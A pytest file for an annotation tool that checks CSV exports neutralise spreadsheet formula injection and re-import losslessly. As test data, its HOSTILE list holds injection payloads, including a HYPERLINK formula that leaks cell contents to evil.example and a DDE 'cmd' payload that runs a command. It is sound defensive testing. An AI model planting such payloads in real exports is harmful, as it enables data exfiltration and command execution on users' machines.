"""Every CSV the tool writes is safe to open in a spreadsheet, and re-imports to the original text.

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is a
formula to Excel, LibreOffice and Google Sheets; the writers prefix it with
``'`` (and a cell that starts with ``'`` with one more, so the import can undo
exactly that). Parquet and JSONL keep the raw text.
"""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest
from sqlalchemy import select

from rmgap_annot.formats.rmgap import import_benchmark
from rmgap_annot.csv_cells import FORMULA_STARTS, neutralise, restore
from rmgap_annot.db import get_engine, init_db, session_scope
from rmgap_annot.export import Rule, write_export
from rmgap_annot.labels_io import export_labels, import_labels
from rmgap_annot.models import Label, User

# (annotator, comment): hostile names as a crowd platform's file could carry them,
# hostile comments as typed into the Annotate form.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"x")', '=HYPERLINK("http://evil.example/?"&A1,"x")'),
    ("+cmd|' /C calc'!A0", "+1+2"),
    ("@SUM(1+1)", "@SUM(A1:A9)"),
    ("-2+3", "\t=tabbed"),
    ("'quoted", "\r=carriage"),
    ("''twice", "'"),
    ("plain", "nothing to see, = in the middle"),
]


def _import_hostile(engine, benchmark_id, small_records, tmp_path) -> None:
    rid = small_records[0]["id"]
    path = tmp_path / "hostile.jsonl"
    with open(path, "w", encoding="utf-8") as fh:
        for i, (name, comment) in enumerate(HOSTILE):
            fh.write(json.dumps({"record_id": rid, "group": i % 4, "prompt_index": i % 3, "annotator": name,
                                 "choice": None, "naturalness": 3, "comment": comment}) + "\n")
    import_labels(engine=engine, path=path, benchmark_id=benchmark_id)


def _csv_cells(path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    dangerous = [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert dangerous == [], dangerous


def _stored(engine) -> set[tuple[str, str | None]]:
    with session_scope(engine) as s:
        return set(s.execute(select(User.name, Label.comment).join(Label, Label.user_id == User.id)).all())


@pytest.mark.parametrize("value", [h for pair in HOSTILE for h in pair] + ["", "x", "-", "'", "''"])
def test_neutralise_then_restore_is_the_identity(value):
    assert restore(neutralise(value)) == value
    assert not neutralise(value).startswith(FORMULA_STARTS)


def test_non_text_cells_are_left_alone():
    assert neutralise(-1.5) == -1.5 and neutralise(None) is None and restore(3) == 3


def test_labels_export_csv_neutralises_and_reimports_the_original_text(engine, benchmark_id, small_records, small_file, tmp_path):
    _import_hostile(engine, benchmark_id, small_records, tmp_path)
    out = tmp_path / "labels.csv"
    # A backup round trip keeps the user names (--real-names); a plain export names pseudonyms.
    assert export_labels(engine=engine, benchmark_id=benchmark_id, out=out, real_names=True) == len(HOSTILE)
    cells = _csv_cells(out)
    _assert_no_formula(cells)
    assert "'" + HOSTILE[0][0] in cells and "'''twice" in cells

    other_url = f"sqlite:///{tmp_path / 'other.sqlite'}"
    init_db(other_url)
    other = get_engine(other_url)
    other_bench = import_benchmark(engine=other, path=small_file, name="small").benchmark_id
    import_labels(engine=other, path=out, benchmark_id=other_bench)
    assert _stored(other) == set(HOSTILE) == _stored(engine)


def test_jsonl_and_parquet_keep_the_raw_text(engine, benchmark_id, small_records, tmp_path):
    _import_hostile(engine, benchmark_id, small_records, tmp_path)
    export_labels(engine=engine, benchmark_id=benchmark_id, out=tmp_path / "l.jsonl", real_names=True)
    export_labels(engine=engine, benchmark_id=benchmark_id, out=tmp_path / "l.parquet", real_names=True)
    rows = [json.loads(line) for line in (tmp_path / "l.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {(r["annotator"], r["comment"]) for r in rows} == set(HOSTILE)
    frame = pd.read_parquet(tmp_path / "l.parquet")
    assert set(zip(frame["annotator"], frame["comment"])) == set(HOSTILE)


def test_verified_export_labels_csv_is_neutralised(engine, benchmark_id, small_records, tmp_path):
    _import_hostile(engine, benchmark_id, small_records, tmp_path)
    out = tmp_path / "verified"
    write_export(engine=engine, benchmark_id=benchmark_id, out_dir=out, rule=Rule.of(min_labels=1))
    cells = _csv_cells(out / "labels.csv")
    _assert_no_formula(cells)
    assert "'+1+2" in cells
    frame = pd.read_parquet(out / "labels.parquet")
    assert set(frame["comment"]) == {c for _, c in HOSTILE}


def test_results_page_download_goes_through_the_safe_writer():
    """The Results page offers exactly what ``export_labels`` writes (checked above), nothing hand-made."""
    from pathlib import Path

    page = (Path(__file__).parents[1] / "pages" / "results.py").read_text(encoding="utf-8")
    assert "export_labels(" in page and "to_csv(" not in page


def test_streamlit_tables_offer_no_unsafe_csv_download():
    """Streamlit's table toolbar writes CSV without formula quoting: the project config turns it off."""
    import tomllib
    from pathlib import Path

    config = tomllib.loads((Path(__file__).parents[1] / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
